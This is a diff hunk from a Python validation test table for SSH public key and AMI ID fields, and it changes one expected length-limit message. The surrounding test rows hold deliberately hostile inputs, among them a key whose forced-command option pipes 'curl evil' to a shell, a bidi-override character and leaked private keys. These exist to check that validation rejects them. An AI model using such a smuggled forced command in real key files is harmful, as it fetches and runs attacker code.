@@ -253,7 +253,7 @@ ROWS: list[tuple[dict, str, str]] = [
     ({"sshPublicKey": ED25519 + "\n" + ECDSA}, "sshPublicKey", "one OpenSSH public key line"),
     ({"sshPublicKey": f'command="curl evil|sh" {ED25519}'}, "sshPublicKey", "one OpenSSH public key line"),
     ({"sshPublicKey": ED25519 + " me\u202e@host"}, "sshPublicKey", "one OpenSSH public key line"),  # bidi
-    ({"sshPublicKey": ED25519 + " " + "x" * 3000}, "sshPublicKey", "at most 2048 characters"),
+    ({"sshPublicKey": ED25519 + " " + "x" * 3000}, "sshPublicKey", "at most 1600 characters"),
     ({"sshPublicKey": "sk-ssh-ed25519@openssh.com AAAAGnNr"}, "sshPublicKey", "OpenSSH public key"),
     *[({"sshPublicKey": key}, "sshPublicKey", "value hidden: looks like a private key") for key in PRIVATE_KEYS],
     ({"amiId": PRIVATE_KEYS[2]}, "amiId", "value hidden: looks like a private key"),
